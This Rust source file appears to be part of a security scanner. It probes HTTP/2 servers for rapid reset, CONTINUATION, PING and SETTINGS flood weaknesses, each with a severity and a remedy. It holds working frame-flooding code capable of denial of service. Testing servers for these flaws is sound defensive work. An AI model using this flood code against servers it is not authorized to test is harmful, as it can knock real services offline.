//! Frames that cost a server more than their sender. Each flood has a connection of its own that was made
//! before the first of them, since an address that floods is shut out for a while.

use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use strata_estate::abuse::{Frame, HTTP_2, PREFACE, Visit, field};
use tokio::{
    io::{AsyncWriteExt as _, split},
    time::timeout,
};

use crate::attack::{
    consent::FLOOD,
    probe::{Family, Probe, Severity, Verdict},
    scene::Scene,
};

pub(super) const FAMILY: Family = Family {
    name: "floods",
    at_once: false,
    probes: &[
        Probe {
            id: "floods.streams",
            name: "how many requests a connection may have under way",
            severity: Severity::Medium,
            rows: &["R4", "API4"],
            shows: "one connection may have as many requests under way as it likes",
            remedy: "announce SETTINGS_MAX_CONCURRENT_STREAMS (RFC 9113, section 6.5.2)",
            run: |scene| Box::pin(streams(scene)),
        },
        Probe {
            id: "floods.resets",
            name: "rapid reset",
            severity: Severity::High,
            rows: &["R1", "API4"],
            shows: "requests may be begun and taken back without end (CVE-2023-44487)",
            remedy: "bound resets, and end the connection",
            run: |scene| Box::pin(resets(scene)),
        },
        Probe {
            id: "floods.continuation",
            name: "a head without end",
            severity: Severity::High,
            rows: &["R2", "API4"],
            shows: "CONTINUATION frames may be sent without end (VU#421644)",
            remedy: "bound the parts of a head, and end the connection",
            run: |scene| Box::pin(continuation(scene)),
        },
        Probe {
            id: "floods.pings",
            name: "PING frames without end",
            severity: Severity::Medium,
            rows: &["R3", "API4"],
            shows: "a connection may ask for nothing but answers to PING (CVE-2019-9512)",
            remedy: "bound frames that ask for nothing, and end the connection",
            run: |scene| Box::pin(pings(scene)),
        },
        Probe {
            id: "floods.settings",
            name: "SETTINGS frames without end",
            severity: Severity::Medium,
            rows: &["R3", "API4"],
            shows: "a connection may ask for nothing but answers to SETTINGS (CVE-2019-9515)",
            remedy: "bound frames that ask for nothing, and end the connection",
            run: |scene| Box::pin(settings(scene)),
        },
    ],
};

/// As many connections are made at once, before any flood.
const LINES: usize = 5;
/// For a server to say something, or to close.
const PATIENCE: Duration = Duration::from_secs(5);
/// SETTINGS_MAX_CONCURRENT_STREAMS, and the most that a server may allow here.
const MAX_STREAMS: u16 = 3;
const MOST: u32 = 1000;
const ACK: u8 = 1;

/// A connection on which the server has answered an honest PING, and the settings it has sent.
async fn opened(scene: &Scene) -> Result<(Visit, Frame)> {
    let mut lines = scene.lines.lock().await;
    if lines.is_empty() {
        for _ in 0..LINES {
            let mut line = scene.target.connect(HTTP_2).await?;
            line.write_all(&hello()).await?;
            line.flush().await?;
            lines.push(line);
        }
    }
    let mut line = lines.pop().context("there is no connection left")?;
    drop(lines);
    let answered = timeout(PATIENCE, async {
        let mut settings = None;
        loop {
            let frame = Frame::read(&mut line).await?;
            match (frame.kind, frame.flags & ACK) {
                (Frame::SETTINGS, 0) => settings = Some(frame),
                (Frame::PING, ACK) => return anyhow::Ok(settings),
                _ => {}
            }
        }
    });
    let settings = answered.await.context("an honest PING is not answered")?;
    let settings = settings.context("the server does not speak HTTP/2, or not with us")?;
    Ok((line, settings.context("the server sent no SETTINGS")?))
}

/// The preface, no settings, and a PING.
fn hello() -> Vec<u8> {
    let settings = Frame::new(Frame::SETTINGS, 0, 0, &[]).bytes();
    let ping = Frame::new(Frame::PING, 0, 0, &[7; 8]).bytes();
    [PREFACE.to_vec(), settings, ping].concat()
}

async fn streams(scene: &Scene) -> Result<Verdict> {
    let (_line, settings) = opened(scene).await?;
    let allowed = settings
        .payload
        .chunks_exact(6)
        .find_map(|setting| match setting {
            [a, b, value @ ..] if u16::from_be_bytes([*a, *b]) == MAX_STREAMS => {
                Some(u32::from_be_bytes(value.try_into().ok()?))
            }
            _ => None,
        });
    let seen = match allowed {
        None => Some("the server announces no limit".to_owned()),
        Some(count) if count > MOST => Some(format!("the server allows {count}")),
        Some(_) => None,
    };
    Ok(Verdict::unless(seen))
}

async fn resets(scene: &Scene) -> Result<Verdict> {
    let whole = Frame::END_STREAM | Frame::END_HEADERS;
    flooded(scene, "requests taken back", |round| {
        let ids = (0..50).map(|at| 2 * (50 * round + at) + 1);
        let taken_back =
            ids.map(|id| [Frame::request(id, whole).bytes(), Frame::reset(id).bytes()].concat());
        taken_back.collect::<Vec<_>>().concat()
    })
    .await
}

async fn continuation(scene: &Scene) -> Result<Verdict> {
    flooded(scene, "parts of one head", |round| match round {
        0 => Frame::request(1, Frame::END_STREAM).bytes(),
        _ => {
            let part = field("x", "y").repeat(20);
            Frame::new(Frame::CONTINUATION, 0, 1, &part)
                .bytes()
                .repeat(20)
        }
    })
    .await
}

async fn pings(scene: &Scene) -> Result<Verdict> {
    let ping = Frame::new(Frame::PING, 0, 0, &[0; 8]).bytes();
    flooded(scene, "PING frames", |_| ping.repeat(500)).await
}

async fn settings(scene: &Scene) -> Result<Verdict> {
    let settings = Frame::new(Frame::SETTINGS, 0, 0, &[]).bytes();
    flooded(scene, "SETTINGS frames", |_| settings.repeat(500)).await
}

/// Sends batches until the server has had enough, or the flood is as large as it may be.
async fn flooded(scene: &Scene, what: &str, batch: impl Fn(u32) -> Vec<u8>) -> Result<Verdict> {
    let (line, _) = opened(scene).await?;
    let (mut reader, mut writer) = split(line);
    let mut sent = 0;
    let flood = async {
        for round in 0.. {
            let batch = batch(round);
            if sent + batch.len() > FLOOD {
                break;
            }
            if writer.write_all(&batch).await.is_err() || writer.flush().await.is_err() {
                break;
            }
            sent += batch.len();
        }
        tokio::time::sleep(PATIENCE).await;
    };
    let over = async {
        loop {
            match Frame::read(&mut reader).await {
                Ok(frame) if frame.kind != Frame::GOAWAY => {}
                _ => break,
            }
        }
    };
    let refused = timeout(6 * PATIENCE, async {
        tokio::select! {
            biased;
            () = over => true,
            () = flood => false,
        }
    });
    let refused = refused.await.unwrap_or(false);
    ensure!(sent > 0 || refused, "nothing could be sent");
    Ok(Verdict::unless((!refused).then(|| {
        format!("{} KiB of {what} were taken", sent / 1024)
    })))
}
